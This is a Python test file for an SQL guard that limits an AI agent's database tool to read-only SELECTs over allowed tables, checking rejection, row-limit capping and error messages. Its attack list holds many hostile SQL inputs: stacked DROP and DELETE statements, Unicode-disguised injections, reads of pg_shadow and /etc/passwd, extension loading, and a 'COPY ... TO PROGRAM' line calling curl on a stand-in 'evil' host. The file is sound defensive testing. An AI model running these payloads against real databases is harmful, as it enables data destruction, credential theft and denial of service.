"""The guard accepts one read-only SELECT over allowed tables and nothing else."""

import pytest
import sqlglot

from agentstream.agents.sql import allowlists, guard
from agentstream.agents.sql.guard import SqlPolicy, SqlToolError, UnsafeQueryError, vet_query
from agentstream.demo.fieldservice.schema import ALLOWED_TABLES

DIALECTS = ["sqlite", "postgres"]


def policy(dialect: str, row_limit: int = 200) -> SqlPolicy:
    return SqlPolicy(allowed_tables=ALLOWED_TABLES, row_limit=row_limit, dialect=dialect)


# Every statement here must be rejected in both dialects.
ATTACKS = [
    # empty and comment-only input
    pytest.param("", id="empty"),
    pytest.param("   \n\t", id="whitespace-only"),
    pytest.param(";", id="lone-semicolon"),
    pytest.param("-- nothing but a comment", id="comment-only"),
    # several statements
    pytest.param("SELECT 1; DROP TABLE technicians", id="stacked-drop"),
    pytest.param("SELECT 1;DELETE FROM technicians", id="stacked-delete-no-space"),
    pytest.param("sElEcT * FrOm technicians; dRoP tAbLe technicians", id="mixed-case-stacked-drop"),
    pytest.param("SELECT 1; SELECT 2", id="two-selects"),
    pytest.param(
        "SELECT 1 -- trailing comment\n; DROP TABLE technicians", id="line-comment-then-drop"
    ),
    pytest.param(
        "SELECT 1 /* /* nested */ ; DROP TABLE technicians; /* */", id="nested-comment-drop"
    ),
    pytest.param("/* hi */ DROP /* there */ TABLE technicians", id="comments-around-drop"),
    pytest.param("SELECT 1\uff1b DROP TABLE technicians", id="fullwidth-semicolon"),
    pytest.param("SELECT 1; DROP\u200b TABLE technicians", id="zero-width-space-drop"),
    pytest.param("\u017fELECT 1; DROP TABLE technicians", id="long-s-select-stacked"),
    pytest.param("SELECT * FROM technicians\x00; DROP TABLE technicians", id="nul-byte-stacked"),
    # DML
    pytest.param("DELETE FROM technicians", id="delete"),
    pytest.param("UPDATE technicians SET status = 'inactive'", id="update"),
    pytest.param("INSERT INTO skills (id, name) VALUES (99, 'x')", id="insert-values"),
    pytest.param("INSERT INTO skills SELECT * FROM skills", id="insert-select"),
    pytest.param("REPLACE INTO skills VALUES (1, 'x')", id="replace-into"),
    pytest.param("MERGE INTO skills USING skills s ON 1 = 1 WHEN MATCHED THEN DELETE", id="merge"),
    # DDL
    pytest.param("DROP TABLE technicians", id="drop-table"),
    pytest.param("CREATE TABLE intruders (id INT)", id="create-table"),
    pytest.param("CREATE TABLE copy AS SELECT * FROM technicians", id="create-table-as"),
    pytest.param("CREATE VIEW v AS SELECT 1", id="create-view"),
    pytest.param(
        "CREATE TRIGGER t AFTER INSERT ON skills BEGIN DELETE FROM skills; END",
        id="create-trigger",
    ),
    pytest.param("ALTER TABLE technicians ADD COLUMN x INT", id="alter-table"),
    pytest.param("TRUNCATE TABLE technicians", id="truncate"),
    # database administration
    pytest.param("ATTACH DATABASE '/tmp/evil.db' AS evil", id="attach"),
    pytest.param("DETACH DATABASE evil", id="detach"),
    pytest.param("PRAGMA writable_schema = ON", id="pragma-set"),
    pytest.param("PRAGMA table_info(technicians)", id="pragma-read"),
    pytest.param("VACUUM", id="vacuum"),
    pytest.param("VACUUM INTO '/tmp/copy.db'", id="vacuum-into"),
    pytest.param("REINDEX", id="reindex"),
    pytest.param("ANALYZE", id="analyze"),
    pytest.param("COPY technicians TO PROGRAM 'curl http://evil'", id="copy-to-program"),
    pytest.param("COPY technicians FROM '/etc/passwd'", id="copy-from-file"),
    pytest.param("GRANT ALL ON technicians TO public", id="grant"),
    pytest.param("REVOKE ALL ON technicians FROM public", id="revoke"),
    pytest.param("SET statement_timeout = 0", id="set"),
    pytest.param("SET ROLE postgres", id="set-role"),
    pytest.param("RESET ALL", id="reset"),
    pytest.param("CALL do_evil()", id="call"),
    pytest.param("EXECUTE stmt", id="execute"),
    pytest.param("PREPARE p AS DELETE FROM technicians", id="prepare"),
    pytest.param("LOAD 'evil.so'", id="load"),
    pytest.param("DO $$ BEGIN PERFORM 1; END $$", id="do-block"),
    pytest.param("BEGIN", id="begin"),
    pytest.param("COMMIT", id="commit"),
    pytest.param("EXPLAIN ANALYZE DELETE FROM technicians", id="explain-analyze-delete"),
    pytest.param("LISTEN channel", id="listen"),
    pytest.param("VALUES (1)", id="bare-values"),
    # SELECT that writes or locks
    pytest.param("SELECT * INTO stolen FROM technicians", id="select-into"),
    pytest.param("SELECT * FROM technicians FOR UPDATE", id="for-update"),
    pytest.param("SELECT * FROM technicians FOR SHARE", id="for-share"),
    pytest.param("SELECT * FROM technicians FOR NO KEY UPDATE NOWAIT", id="for-no-key-update"),
    pytest.param(
        "WITH x AS (DELETE FROM technicians RETURNING *) SELECT * FROM x", id="cte-delete"
    ),
    pytest.param(
        "WITH x AS (UPDATE technicians SET status = 'x' RETURNING id) SELECT * FROM x",
        id="cte-update",
    ),
    pytest.param(
        "WITH x AS (INSERT INTO skills VALUES (99, 'x') RETURNING id) SELECT * FROM x",
        id="cte-insert",
    ),
    # system catalogs
    pytest.param("SELECT * FROM sqlite_master", id="sqlite-master"),
    pytest.param("SELECT * FROM sqlite_schema", id="sqlite-schema"),
    pytest.param("SELECT * FROM sqlite_temp_master", id="sqlite-temp-master"),
    pytest.param("SELECT * FROM main.sqlite_master", id="main-sqlite-master"),
    pytest.param("SELECT * FROM temp.sqlite_master", id="temp-sqlite-master"),
    pytest.param('SELECT * FROM "sqlite_master"', id="quoted-sqlite-master"),
    pytest.param('SELECT * FROM "SQLITE_MASTER"', id="quoted-upper-sqlite-master"),
    pytest.param("SELECT * FROM SQLITE_MASTER", id="upper-sqlite-master"),
    pytest.param("SELECT * FROM pg_catalog.pg_tables", id="pg-catalog-tables"),
    pytest.param("SELECT * FROM pg_tables", id="pg-tables"),
    pytest.param("SELECT * FROM pg_shadow", id="pg-shadow"),
    pytest.param('SELECT * FROM "pg_authid"', id="quoted-pg-authid"),
    pytest.param("SELECT * FROM information_schema.tables", id="information-schema"),
    pytest.param("SELECT * FROM INFORMATION_SCHEMA.COLUMNS", id="upper-information-schema"),
    pytest.param(
        "SELECT name FROM technicians UNION SELECT sql FROM sqlite_master", id="union-sqlite-master"
    ),
    pytest.param(
        "SELECT name FROM technicians UNION ALL SELECT passwd FROM pg_shadow", id="union-pg-shadow"
    ),
    pytest.param(
        "SELECT * FROM technicians WHERE id = (SELECT COUNT(*) FROM sqlite_master)",
        id="scalar-subquery-sqlite-master",
    ),
    pytest.param(
        "SELECT * FROM technicians ORDER BY (SELECT 1 FROM pg_user)", id="order-by-pg-user"
    ),
    pytest.param("SELECT * FROM technicians NATURAL JOIN pg_class", id="join-pg-class"),
    # tables outside the allow-list
    pytest.param("SELECT * FROM api_keys", id="unlisted-table"),
    pytest.param(
        "SELECT * FROM technicians WHERE id IN (SELECT id FROM secrets)", id="subquery-unlisted"
    ),
    pytest.param("SELECT (SELECT password FROM users LIMIT 1)", id="scalar-subquery-unlisted"),
    pytest.param("SELECT * FROM technicians JOIN api_keys ON 1 = 1", id="join-unlisted"),
    pytest.param("SELECT * FROM other.technicians", id="foreign-schema"),
    pytest.param("SELECT * FROM evil.main.technicians", id="catalog-qualified"),
    pytest.param("SELECT * FROM public.api_keys", id="public-unlisted"),
    pytest.param('SELECT * FROM "s\u212aills"', id="kelvin-sign-table-name"),
    pytest.param(
        "SELECT * FROM sqlite_master, "
        "(WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master) x",
        id="cte-name-out-of-scope",
    ),
    pytest.param(
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", id="cte-forward-reference"
    ),
    # dangerous functions
    pytest.param("SELECT pg_sleep(10)", id="pg-sleep"),
    pytest.param("SELECT PG_SLEEP_FOR('10 seconds')", id="pg-sleep-for"),
    pytest.param("SELECT CASE WHEN 1 = 1 THEN pg_sleep(5) END", id="pg-sleep-in-case"),
    pytest.param("SELECT randomblob(1000000000)", id="randomblob"),
    pytest.param("SELECT zeroblob(1000000000)", id="zeroblob"),
    pytest.param("SELECT load_extension('/tmp/evil.so')", id="load-extension"),
    pytest.param(
        "SELECT * FROM technicians GROUP BY id HAVING MAX(load_extension('x'))",
        id="load-extension-in-having",
    ),
    pytest.param("SELECT readfile('/etc/passwd')", id="readfile"),
    pytest.param("SELECT writefile('/tmp/x', 'y')", id="writefile"),
    pytest.param("SELECT edit('x')", id="edit"),
    pytest.param("SELECT fts3_tokenizer('simple')", id="fts3-tokenizer"),
    pytest.param("SELECT sqlite_version()", id="sqlite-version"),
    pytest.param("SELECT pg_read_file('/etc/passwd')", id="pg-read-file"),
    pytest.param("SELECT pg_read_binary_file('/etc/passwd')", id="pg-read-binary-file"),
    pytest.param("SELECT pg_ls_dir('.')", id="pg-ls-dir"),
    pytest.param("SELECT lo_import('/etc/passwd')", id="lo-import"),
    pytest.param("SELECT dblink('host=evil', 'SELECT 1')", id="dblink"),
    pytest.param("SELECT current_setting('data_directory')", id="current-setting"),
    pytest.param("SELECT set_config('statement_timeout', '0', false)", id="set-config"),
    pytest.param("SELECT pg_terminate_backend(1)", id="pg-terminate-backend"),
    pytest.param("SELECT version()", id="version"),
    pytest.param("SELECT txid_current()", id="txid-current"),
    pytest.param("SELECT nextval('technicians_id_seq')", id="nextval"),
    pytest.param(
        "SELECT query_to_xml('select * from pg_shadow', true, true, '')", id="query-to-xml"
    ),
    pytest.param("SELECT current_user", id="current-user"),
    pytest.param("SELECT evil_udf(1)", id="unknown-function"),
    pytest.param("SELECT my_schema.func(1)", id="schema-qualified-function"),
    pytest.param("SELECT repeat('x', 1000000000)", id="repeat-amplifier"),
    pytest.param("SELECT printf('%.*c', 1000000000, 'x')", id="printf-amplifier"),
    pytest.param("SELECT * FROM generate_series(1, 1000000000)", id="generate-series"),
    pytest.param("SELECT * FROM pragma_table_info('technicians')", id="pragma-table-function"),
    pytest.param("SELECT 'pg_class'::regclass", id="regclass-cast"),
    pytest.param("SELECT CAST('x' AS xml)", id="xml-cast"),
    # resource exhaustion
    pytest.param(
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT * FROM c",
        id="recursive-cte",
    ),
    pytest.param(
        "WITH c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT * FROM c",
        id="recursive-cte-without-keyword",
    ),
    pytest.param("SELECT * FROM technicians TABLESAMPLE BERNOULLI (10)", id="tablesample"),
    pytest.param("SELECT " + "(" * 5000 + "1" + ")" * 5000, id="deep-nesting"),
    pytest.param("SELECT '" + "x" * 30_000 + "'", id="oversized-input"),
    # parameters and identifiers that mean different things to sqlglot and the database
    pytest.param("SELECT ?", id="positional-placeholder"),
    pytest.param("SELECT $1", id="dollar-parameter"),
    pytest.param("SELECT @x", id="at-parameter"),
    pytest.param("SELECT * FROM technicians LIMIT :n", id="parameter-limit"),
    pytest.param("SELECT * FROM technicians LIMIT (SELECT 10)", id="subquery-limit"),
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", ATTACKS)
def test_attack_is_rejected(sql: str, dialect: str) -> None:
    with pytest.raises(UnsafeQueryError) as caught:
        vet_query(sql, policy(dialect))
    assert caught.value.reason


def test_attack_corpus_has_at_least_fifty_statements() -> None:
    assert len({param.values[0] for param in ATTACKS}) >= 50


LEGITIMATE = [
    pytest.param("SELECT COUNT(*) FROM technicians WHERE status = 'active'", id="count"),
    pytest.param("SELECT name, email FROM technicians WHERE status = :status", id="named-param"),
    pytest.param(
        "SELECT t.name, COUNT(w.id) AS n FROM technicians t LEFT JOIN work_orders w "
        "ON w.technician_id = t.id GROUP BY t.name HAVING COUNT(w.id) > 2 ORDER BY n DESC",
        id="join-group-having",
    ),
    pytest.param(
        "WITH busy AS (SELECT technician_id, SUM(hours) AS h FROM timesheets "
        "GROUP BY technician_id) SELECT t.name, b.h FROM busy b "
        "JOIN technicians t ON t.id = b.technician_id",
        id="cte",
    ),
    pytest.param(
        "WITH a AS (SELECT id FROM technicians), b AS (SELECT id FROM a) SELECT * FROM b",
        id="chained-ctes",
    ),
    pytest.param(
        "WITH api_keys AS (SELECT 1 AS x) SELECT * FROM api_keys",
        id="cte-shadowing-unlisted-name",
    ),
    pytest.param(
        "SELECT region, AVG(hourly_rate), MIN(hourly_rate), MAX(hourly_rate), "
        "ROUND(AVG(hourly_rate), 2) FROM technicians GROUP BY region",
        id="aggregates",
    ),
    pytest.param(
        "SELECT c.name FROM customers c WHERE c.id IN "
        "(SELECT customer_id FROM work_orders WHERE priority = 'urgent')",
        id="in-subquery",
    ),
    pytest.param(
        "SELECT name FROM technicians WHERE EXISTS (SELECT 1 FROM technician_skills ts "
        "WHERE ts.technician_id = technicians.id)",
        id="exists",
    ),
    pytest.param(
        "SELECT CASE WHEN priority IN ('high', 'urgent') THEN 'hot' ELSE 'normal' END AS b, "
        "COUNT(*) FROM work_orders GROUP BY b",
        id="case",
    ),
    pytest.param(
        "SELECT COALESCE(actual_hours, estimated_hours), NULLIF(status, ''), LOWER(title), "
        "UPPER(category), LENGTH(title), SUBSTR(title, 1, 10), TRIM(title), ABS(actual_hours) "
        "FROM work_orders",
        id="scalar-functions",
    ),
    pytest.param("SELECT region FROM technicians UNION SELECT region FROM customers", id="union"),
    pytest.param(
        "SELECT id FROM technicians EXCEPT SELECT technician_id FROM work_orders", id="except"
    ),
    pytest.param(
        "SELECT name, RANK() OVER (PARTITION BY region ORDER BY hourly_rate DESC) FROM technicians",
        id="window-function",
    ),
    pytest.param("SELECT EXTRACT(YEAR FROM created_at) FROM work_orders", id="extract"),
    pytest.param("SELECT CAST(hourly_rate AS INTEGER) FROM technicians", id="cast"),
    pytest.param("SELECT * FROM technicians CROSS JOIN skills", id="cross-join"),
    pytest.param("SELECT * FROM main.technicians", id="main-schema"),
    pytest.param("SELECT * FROM public.technicians", id="public-schema"),
    pytest.param('SELECT * FROM "technicians"', id="quoted-exact-name"),
    pytest.param("SELECT * FROM Technicians", id="unquoted-mixed-case"),
    pytest.param("SELECT DISTINCT status FROM work_orders;", id="trailing-semicolon"),
    pytest.param("(SELECT 1)", id="parenthesized"),
    pytest.param(
        "SELECT * FROM technicians WHERE name LIKE 'T%' AND hire_date BETWEEN :start AND :end",
        id="like-between-params",
    ),
]
SQLITE_ONLY = [
    pytest.param(
        "SELECT strftime('%Y-%m', created_at) AS month, COUNT(*) FROM work_orders GROUP BY month",
        id="strftime",
    ),
    pytest.param(
        "SELECT * FROM work_orders WHERE created_at >= date('now', '-30 days')", id="date-modifier"
    ),
    pytest.param(
        "SELECT julianday(completed_at) - julianday(created_at) FROM work_orders",
        id="julianday",
    ),
    pytest.param("SELECT group_concat(name, ', ') FROM skills", id="group-concat"),
    pytest.param("SELECT ifnull(actual_hours, 0) FROM work_orders", id="ifnull"),
]
POSTGRES_ONLY = [
    pytest.param(
        "SELECT date_trunc('month', created_at) AS m, COUNT(*) FROM work_orders GROUP BY m",
        id="date-trunc",
    ),
    pytest.param("SELECT created_at + INTERVAL '1 day' FROM work_orders", id="interval"),
    pytest.param("SELECT string_agg(name, ', ') FROM skills", id="string-agg"),
    pytest.param("SELECT hourly_rate::numeric(8, 2) FROM technicians", id="double-colon-cast"),
    pytest.param("SELECT age(hire_date), now(), current_date FROM technicians", id="age-now"),
    pytest.param("SELECT * FROM technicians FETCH FIRST 5 ROWS ONLY", id="fetch-first"),
    pytest.param(
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY hours) FROM timesheets", id="median"
    ),
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", LEGITIMATE)
def test_legitimate_query_passes(sql: str, dialect: str) -> None:
    assert vet_query(sql, policy(dialect)).startswith(("SELECT", "WITH"))


@pytest.mark.parametrize("sql", SQLITE_ONLY)
def test_legitimate_sqlite_query_passes(sql: str) -> None:
    assert vet_query(sql, policy("sqlite")).startswith("SELECT")


@pytest.mark.parametrize("sql", POSTGRES_ONLY)
def test_legitimate_postgres_query_passes(sql: str) -> None:
    assert vet_query(sql, policy("postgres")).startswith("SELECT")


@pytest.mark.parametrize("dialect", DIALECTS)
def test_missing_limit_is_added_with_one_extra_row(dialect: str) -> None:
    vetted = vet_query("SELECT id FROM technicians", policy(dialect, row_limit=50))
    assert vetted == "SELECT id FROM technicians LIMIT 51"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_larger_limit_is_lowered(dialect: str) -> None:
    vetted = vet_query("SELECT id FROM technicians LIMIT 100000", policy(dialect, row_limit=50))
    assert vetted == "SELECT id FROM technicians LIMIT 51"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_smaller_limit_and_offset_are_kept(dialect: str) -> None:
    vetted = vet_query(
        "SELECT id FROM technicians LIMIT 10 OFFSET 20", policy(dialect, row_limit=50)
    )
    assert vetted == "SELECT id FROM technicians LIMIT 10 OFFSET 20"


@pytest.mark.parametrize(
    ("dialect", "unbounded"),
    [("sqlite", "LIMIT -1"), ("sqlite", "LIMIT ALL"), ("postgres", "LIMIT ALL")],
)
def test_unbounded_limit_is_capped(dialect: str, unbounded: str) -> None:
    vetted = vet_query(f"SELECT id FROM technicians {unbounded}", policy(dialect, row_limit=50))
    assert vetted == "SELECT id FROM technicians LIMIT 51"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_limit_applies_to_whole_union(dialect: str) -> None:
    vetted = vet_query(
        "SELECT id FROM technicians UNION SELECT id FROM customers", policy(dialect, row_limit=5)
    )
    assert vetted == "SELECT id FROM technicians UNION SELECT id FROM customers LIMIT 6"


def test_fetch_first_becomes_capped_limit() -> None:
    vetted = vet_query(
        "SELECT id FROM technicians FETCH FIRST 500 ROWS ONLY", policy("postgres", row_limit=50)
    )
    assert vetted == "SELECT id FROM technicians LIMIT 51"


def test_limit_inside_subquery_does_not_replace_outer_cap() -> None:
    vetted = vet_query(
        "SELECT * FROM (SELECT id FROM technicians LIMIT 1000) AS t", policy("sqlite", 50)
    )
    assert vetted.endswith(") AS t LIMIT 51")


@pytest.mark.parametrize("dialect", DIALECTS)
def test_comments_are_stripped(dialect: str) -> None:
    vetted = vet_query(
        "SELECT 1 /* ; DROP TABLE technicians */ -- ; DELETE FROM skills", policy(dialect)
    )
    assert vetted == "SELECT 1 LIMIT 201"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_default_schema_qualifier_is_dropped(dialect: str) -> None:
    # The name must resolve through the connection (the tenant's search_path), not a schema.
    vetted = vet_query("SELECT public.technicians.name FROM public.technicians", policy(dialect))
    assert vetted == "SELECT technicians.name FROM technicians LIMIT 201"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_named_placeholders_are_kept_as_colon_names(dialect: str) -> None:
    vetted = vet_query("SELECT id FROM technicians WHERE status = :status", policy(dialect))
    assert vetted == "SELECT id FROM technicians WHERE status = :status LIMIT 201"


@pytest.mark.parametrize("dialect", DIALECTS)
def test_vetted_query_is_a_fixed_point(dialect: str) -> None:
    once = vet_query(
        "select t.name from technicians t where t.status = :status order by 1", policy(dialect)
    )
    assert vet_query(once, policy(dialect)) == once


def test_table_allow_list_is_case_insensitive() -> None:
    vetted = vet_query(
        "SELECT * FROM TECHNICIANS",
        SqlPolicy(allowed_tables=frozenset({"Technicians"}), dialect="sqlite"),
    )
    assert vetted == "SELECT * FROM TECHNICIANS LIMIT 201"


def test_table_not_in_policy_is_rejected_even_if_in_schema() -> None:
    narrow = SqlPolicy(allowed_tables=frozenset({"skills"}), dialect="sqlite")
    with pytest.raises(UnsafeQueryError, match="table 'technicians' is not allowed"):
        vet_query("SELECT * FROM technicians", narrow)


def test_reason_does_not_echo_the_query() -> None:
    sql = "SELECT secret_column_name FROM technicians; DROP TABLE technicians"
    with pytest.raises(UnsafeQueryError) as caught:
        vet_query(sql, policy("sqlite"))
    assert "secret_column_name" not in str(caught.value)
    assert "DROP" not in caught.value.reason


def test_reason_names_the_forbidden_function() -> None:
    with pytest.raises(UnsafeQueryError, match="function 'pg_sleep' is not allowed"):
        vet_query("SELECT pg_sleep(1)", policy("postgres"))


def test_unsafe_query_error_is_a_value_error_and_a_tool_error() -> None:
    error = UnsafeQueryError("nope")
    assert isinstance(error, ValueError)
    assert isinstance(error, SqlToolError)
    assert error.reason == "nope"


def test_unknown_dialect_is_refused() -> None:
    with pytest.raises(ValueError, match="dialect"):
        SqlPolicy(allowed_tables=ALLOWED_TABLES, dialect="mysql")


def test_row_limit_must_be_positive() -> None:
    with pytest.raises(ValueError, match="row_limit"):
        SqlPolicy(allowed_tables=ALLOWED_TABLES, row_limit=0)


def test_allowed_anonymous_functions_are_not_denied() -> None:
    assert not any(
        guard.is_denied_function(name) for name in allowlists.ALLOWED_ANONYMOUS_FUNCTIONS
    )


@pytest.mark.parametrize("dialect", DIALECTS)
def test_vetted_sql_parses_back_to_one_select(dialect: str) -> None:
    vetted = vet_query(
        "WITH a AS (SELECT id FROM technicians) SELECT COUNT(*) FROM a", policy(dialect)
    )
    statements = sqlglot.parse(vetted, read=dialect)
    assert len(statements) == 1
